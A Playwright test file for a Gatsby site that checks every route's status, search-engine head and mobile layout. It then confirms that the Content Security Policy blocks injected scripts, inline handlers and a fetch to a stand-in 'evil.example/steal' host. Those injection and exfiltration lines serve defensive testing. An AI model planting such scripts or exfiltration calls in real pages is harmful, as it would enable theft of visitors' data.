import type { Page } from "@playwright/test";
import { NOT_FOUND, ROUTES, type Route } from "../routes";
import { hydrated, pageFaults, SMALLEST_PX, touch, WINDOW_HEIGHT_PX } from "./open-page";
import { collectProblems, expect, followRequests, test } from "./strict-test";

/** All addresses, in groups that run in parallel. Each group uses one tab, which loads shared files once. */
const WALK = new Map<string, Route[]>();
for (const route of [...ROUTES, NOT_FOUND]) {
  const [, folder = "", slug] = route.path.split("/");
  const part = slug ? `pages below /${folder}` : "pages of the first level";
  WALK.set(part, [...(WALK.get(part) ?? []), route]);
}

test.describe("every address", () => {
  // Gatsby requests the data of an unknown address before it shows the 404 page.
  test.use({ expectedProblems: /status of 404|^404: .*no-such-page/ });

  for (const [name, routes] of WALK)
    test(`the ${name} load without problems, keep their head on hydration, show every picture and fit the smallest phone`, async ({
      page,
    }) => {
      const problems: string[] = [];
      for (const route of routes) problems.push(...(await problemsOf(page, route)).map((problem) => `${route.path} ${problem}`));
      expect(problems).toEqual([]);
    });
});

async function problemsOf(page: Page, route: Route): Promise<string[]> {
  const problems = await collectProblems(page);
  const requestsFinished = followRequests(page);
  await page.setViewportSize({ width: SMALLEST_PX, height: WINDOW_HEIGHT_PX });
  const response = await page.goto(route.path, { waitUntil: "domcontentloaded" });
  const servedHead = await headOf(page);
  await touch(page);
  await hydrated(page);
  const isFound = route !== NOT_FOUND;
  if (response?.status() !== (isFound ? 200 : 404)) problems.push(`has the status ${response?.status()}`);
  if ((await headOf(page)) !== servedHead) problems.push(`has another head after hydration: ${await headOf(page)}`);
  problems.push(...(await page.evaluate(pageFaults)));
  await requestsFinished();
  page.removeAllListeners();
  return problems.filter((problem) => isFound || !/status of 404|^404: .*no-such-page/.test(problem));
}

/** @returns the part of the head that search engines read. tests/html compares the served one with data/ */
const headOf = (page: Page): Promise<string> =>
  page.evaluate(() => {
    const read = document.head.querySelectorAll("title, meta[name], link[rel=canonical], script[type='application/ld+json']");
    return [...read]
      .map((element) => element.outerHTML)
      .sort()
      .join("\n");
  });

test.describe("if an attacker can change the page,", () => {
  test.use({ expectedProblems: /^policy|evil\.example|Content Security/ });

  test("an injected script does not run, and no data can be sent to another server", async ({ page }) => {
    const foreign: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      foreign.push(route.request().url());
      return route.fulfill({ body: "" });
    });
    await page.goto("/");
    const outcome = await page.evaluate(async () => {
      const add = (name: string, attributes: object) => document.body.append(Object.assign(document.createElement(name), attributes));
      add("script", { textContent: "document.documentElement.dataset.inline = 'ran'" });
      add("script", { src: "https://evil.example/a.js" });
      add("img", { src: "https://evil.example/a.png" });
      add("iframe", { src: "https://evil.example/frame" });
      document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
      document.body.lastElementChild?.dispatchEvent(new MouseEvent("click"));
      const sent = await fetch("https://evil.example/steal").then(
        () => "sent",
        () => "blocked",
      );
      const { inline, handler } = document.documentElement.dataset;
      return { inline, handler, sent };
    });
    expect(outcome).toEqual({ inline: undefined, handler: undefined, sent: "blocked" });
    expect(foreign).toEqual([]);
  });
});
